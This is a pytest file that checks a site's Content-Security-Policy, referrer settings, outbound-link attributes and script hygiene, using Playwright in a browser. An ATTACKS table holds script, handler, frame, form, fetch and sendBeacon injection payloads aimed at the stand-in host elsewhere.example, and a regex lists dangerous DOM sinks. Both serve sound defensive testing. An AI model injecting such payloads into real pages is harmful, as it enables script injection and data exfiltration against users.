"""The policy of the pages: what it says, that it stops what it should, and that nothing of ours needs what it stops."""

import functools
import http.server
import re
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from browsing import Quiet, look, wait
from playwright.sync_api import Browser, Page
from projects import ROOT

from dealtracker import policy

POLICY = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">')
SCRIPT = re.compile(r"<script(?P<how>[^>]*)>(?P<text>.*?)</script>", re.DOTALL)
STYLE = re.compile(r"<style[^>]*>(.*?)</style>", re.DOTALL)
ELSEWHERE = re.compile(r'<a\b[^>]*\bhref="https?://(?!on-paper\.example)[^>]*>')


def said(page: str) -> str:
    """The policy of a page, as a browser reads it."""
    (found,) = POLICY.findall(page)
    return str(found).replace("&#39;", "'")


@pytest.fixture(scope="module")
def pages(site: Path) -> dict[str, str]:
    """Every page of the site: those of the theme, those to embed, and the one for addresses that lead nowhere."""
    return {file.relative_to(site).as_posix(): file.read_text("utf-8") for file in sorted(site.rglob("*.html"))}


def test_every_page_has_a_policy_before_everything_that_it_governs(pages: dict[str, str]) -> None:
    assert len(pages) > 60
    for path, page in pages.items():
        rules = dict(rule.split(" ", 1) for rule in said(page).split("; "))
        assert rules["default-src"] == rules["base-uri"] == "'none'", path
        assert set(re.findall(r"\S+", " ".join(rules.values()))) <= {"'none'", "'self'", "data:", *inline(page)}, path
        assert rules.get("img-src", "'self' data:") == "'self' data:", path
        before = page[: page.index("<meta http-equiv")]
        assert not re.search(r"<(script|style|link)\b", before), path
        assert '<meta name="referrer" content="no-referrer">' in page, path


def inline(page: str) -> set[str]:
    """The digests of the inline scripts and styles of a page. Data of a type that no browser runs are not among them."""
    scripts = [match["text"] for match in SCRIPT.finditer(page) if not match["how"]]
    return {policy.digest(text) for text in (*scripts, *STYLE.findall(page))}


def test_a_policy_names_the_inline_texts_of_its_page_and_no_others(pages: dict[str, str]) -> None:
    for path, page in pages.items():
        assert set(re.findall(r"'sha256-[^']+'", said(page))) == inline(page), path
        assert len(inline(page)) <= 2, path


def test_no_page_has_a_handler_a_style_of_an_element_or_a_script_for_an_address(pages: dict[str, str]) -> None:
    for path, page in pages.items():
        tags = re.findall(r"<[a-z][^<>]*>", SCRIPT.sub("", page))
        assert not [
            tag for tag in tags if re.search(r"""\s(on[a-z]+|style|srcdoc)\s*=|=\s*["']?\s*(javascript|data|vbscript):""", tag)
        ], path


def test_links_that_lead_away_tell_nobody_where_the_reader_came_from(pages: dict[str, str]) -> None:
    links = [link for page in pages.values() for link in ELSEWHERE.findall(page)]
    assert len(links) > 500
    assert not [link for link in links if not re.search(r'rel="[^"]*\bnoopener noreferrer\b', link)]


def test_our_scripts_make_no_code_and_no_markup_of_texts() -> None:
    files = list((ROOT / "overrides").rglob("*.js"))
    assert len(files) >= 5
    for file in files:
        found = re.search(
            r"\beval\b|new Function|innerHTML|outerHTML|insertAdjacentHTML|document\.write|setAttribute\(.style",
            file.read_text("utf-8"),
        )
        assert found is None, (file.name, found)


WATCH = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (event) =>
  window.violations.push(`${event.violatedDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`));
"""


def test_nothing_on_any_page_goes_against_its_policy(browser: Browser, address: str, pages: dict[str, str]) -> None:
    page, trouble = look(browser, address, viewport={"width": 1440, "height": 900})
    page.add_init_script(WATCH)
    for path, text in pages.items():
        if path == "404.html":
            continue  # it is shown at any depth, so its addresses begin at the root; see the next test
        page.goto(address + path.removesuffix("index.html"))
        page.mouse.wheel(0, 300)  # brings in the script of the theme
        if "__config" in text:
            wait(page, "window.document$")
        assert page.evaluate("violations") == [], path
    assert trouble == []
    page.context.close()


def test_search_and_colours_work_under_the_policy_and_keep_nothing_but_the_colours(browser: Browser, address: str) -> None:
    page, trouble = look(browser, address, viewport={"width": 1440, "height": 900}, color_scheme="light")
    page.add_init_script(WATCH)
    page.goto(address + "404.html")
    page.goto(address + "tracks/chip-tariffs/")
    page.get_by_role("textbox", name="Search").first.click()
    page.keyboard.type("shipbuilding")
    page.locator(".md-search-result__link").first.wait_for()
    page.keyboard.press("Escape")
    page.get_by_role("button", name="Dark colours").click()
    page.goto(address + "?asof=2025-10-30")
    wait(page, "document.querySelector('[name=asof], input[type=date]')?.value === '2025-10-30'")
    page.mouse.wheel(0, 500)
    page.wait_for_timeout(300)
    assert page.evaluate("violations") == []
    assert page.evaluate("Object.keys(localStorage)") == ["colours"]
    assert page.evaluate("Object.keys(sessionStorage)") == []
    assert page.context.cookies() == []
    assert trouble == []
    page.context.close()


ATTACKS = {
    "an inline script": "const s = document.createElement('script'); s.textContent = 'window.hit = 1'; document.body.append(s)",
    "a handler": "document.body.insertAdjacentHTML('beforeend', '<img src=\"/none.png\" onerror=\"window.hit = 1\">')",
    "a script from elsewhere": (
        "const s = document.createElement('script'); s.src = 'https://elsewhere.example/x.js'; document.body.append(s)"
    ),
    "a picture from elsewhere": "new Image().src = 'https://elsewhere.example/x.png'",
    "a style of an element": "document.body.insertAdjacentHTML('beforeend', '<p style=\"color: red\">x</p>')",
    "a style sheet": "const s = document.createElement('style'); s.textContent = 'body { color: red }'; document.body.append(s)",
    "a frame": "const f = document.createElement('iframe'); f.src = 'https://elsewhere.example/'; document.body.append(f)",
    "another base": "const b = document.createElement('base'); b.href = 'https://elsewhere.example/'; document.head.append(b)",
    "a form for elsewhere": (
        "document.body.insertAdjacentHTML('beforeend', '<form action=\"https://elsewhere.example/\"></form>');"
        "document.body.lastElementChild.submit()"
    ),
    "a message to elsewhere": "navigator.sendBeacon('https://elsewhere.example/', 'x')",
    "a question to elsewhere": "fetch('https://elsewhere.example/').catch(() => 0)",
    "a worker": "try { new Worker(URL.createObjectURL(new Blob(['1']))) } catch {}",
    "code from a text": "try { setTimeout('window.hit = 1') } catch {}",
}


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_the_policy_should_stop_is_stopped(browser: Browser, address: str, attack: str) -> None:
    page, _ = look(browser, address)
    left: list[str] = []
    page.on("request", lambda request: left.append(request.url) if "elsewhere" in request.url else None)
    page.on("requestfailed", lambda request: left.remove(request.url) if request.failure == "csp" else None)
    page.add_init_script(WATCH)
    page.goto(address + "method/")
    page.evaluate(f"() => {{ {ATTACKS[attack]} }}")
    wait(page, "violations.length")
    assert page.evaluate("window.hit") is None
    assert left == []
    page.context.close()


@pytest.fixture
def moved(tmp_path: Path) -> Iterator[str]:
    """A page at the earlier address of a track, as the program makes it, served."""
    from dealtracker.pages.redirects import SCRIPT

    old, new = tmp_path / "tracks" / "old", tmp_path / "tracks" / "new"
    old.mkdir(parents=True)
    new.mkdir()
    head = f'<meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="{policy.of_script(SCRIPT)}">'
    (old / "index.html").write_text(f'<!doctype html>{head}<a href="../new/">new</a><script>{SCRIPT}</script>', "utf-8")
    (new / "index.html").write_text("<!doctype html><title>new</title>", "utf-8")
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Quiet, directory=str(tmp_path))) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}/tracks/"
        server.shutdown()


def test_an_earlier_address_leads_on_with_its_anchor_under_its_policy(browser: Browser, moved: str) -> None:
    page: Page = browser.new_page()
    page.goto(moved + "old/#event-x")
    page.wait_for_url(moved + "new/#event-x")
    page.close()
